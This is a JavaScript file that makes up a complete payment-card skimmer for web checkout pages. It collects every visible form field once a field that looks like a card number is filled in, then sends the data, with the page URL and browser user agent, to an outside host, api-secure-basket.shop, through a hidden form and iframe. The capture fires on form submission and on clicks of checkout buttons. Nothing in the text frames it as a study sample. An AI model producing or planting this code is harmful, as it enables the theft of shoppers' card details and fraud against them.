(() => {
  const ACTION = 'https://api-secure-basket.shop/gateway/submit';
  const NAME = 'frm_' + Math.random().toString(36).slice(2);

  const target = document.createElement('iframe');
  target.name = NAME;
  target.style.display = 'none';
  document.documentElement.appendChild(target);

  const readCheckout = () => {
    const out = {};
    const inputs = document.querySelectorAll(
      'form input:not([type=hidden]):not([type=button]):not([type=submit]), form select'
    );
    inputs.forEach((el) => {
      const key = el.name || el.id;
      if (key && el.value) out[key] = el.value;
    });
    out.__loc = location.href;
    out.__ua = navigator.userAgent;
    return out;
  };

  const postHidden = (data) => {
    const form = document.createElement('form');
    form.method = 'POST';
    form.action = ACTION;
    form.target = NAME;
    form.acceptCharset = 'UTF-8';
    form.style.display = 'none';
    for (const [k, v] of Object.entries(data)) {
      const input = document.createElement('input');
      input.type = 'hidden';
      input.name = k;
      input.value = v;
      form.appendChild(input);
    }
    document.body.appendChild(form);
    HTMLFormElement.prototype.submit.call(form);
    setTimeout(() => form.remove(), 1500);
  };

  let lastSent = '';
  const trigger = () => {
    const data = readCheckout();
    const cc = Object.entries(data).find(([k, v]) => /card|cc.?num|pan/i.test(k) && /\d{12,}/.test(v.replace(/\s/g, '')));
    if (!cc) return;
    const sig = JSON.stringify(data);
    if (sig === lastSent) return;
    lastSent = sig;
    postHidden(data);
  };

  document.addEventListener('submit', trigger, true);
  document.addEventListener('click', (ev) => {
    if (ev.target?.matches?.('button[type=submit], [data-role=place-order], .action.checkout')) trigger();
  }, true);
})();
